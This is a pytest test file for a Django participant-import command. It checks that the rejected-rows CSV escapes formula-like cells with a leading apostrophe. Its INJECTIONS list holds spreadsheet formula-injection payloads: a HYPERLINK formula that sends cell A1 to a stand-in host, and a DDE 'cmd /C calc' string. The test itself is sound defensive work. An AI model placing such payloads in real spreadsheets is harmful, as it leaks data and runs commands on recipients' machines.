"""The command line's rejected-rows CSV opens in Excel as text, never as a formula."""

import csv

import pytest
from django.core.management import call_command

from core.rejected import csv_field
from tests.conftest import row, write_csv

pytestmark = pytest.mark.django_db

INJECTIONS = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd"]


def test_a_formula_gets_a_leading_apostrophe_and_other_values_stay() -> None:
    assert csv_field("=1+1") == "'=1+1"
    assert csv_field("\t=1") == "'\t=1"
    assert csv_field("Budi Santoso") == "Budi Santoso"
    assert csv_field(3) == 3
    assert csv_field("-1") == "-1"  # a negative score typed by a person, no formula
    assert csv_field("+2,5") == "+2,5"
    assert csv_field("-1+cmd") == "'-1+cmd"


def test_rejected_rows_with_formulas_are_written_escaped(tmp_path) -> None:
    rows = [row(f"19860926201505100{n}", name=text) for n, text in enumerate(INJECTIONS, 1)]
    rows.append(row("=1+2"))  # a NIP cell that is a formula
    path = write_csv(tmp_path / "peserta.csv", rows)
    errors = tmp_path / "ditolak.csv"

    with pytest.raises(SystemExit):
        call_command("import_participants", str(path), "--errors", str(errors))

    lines = list(csv.reader(errors.open(encoding="utf-8")))[1:]
    values = [line[2] for line in lines]
    assert {f"'{text}" for text in INJECTIONS} <= set(values)
    assert "'=1+2" in values
    assert not [field for line in lines for field in line if field.startswith(("=", "+", "@"))]
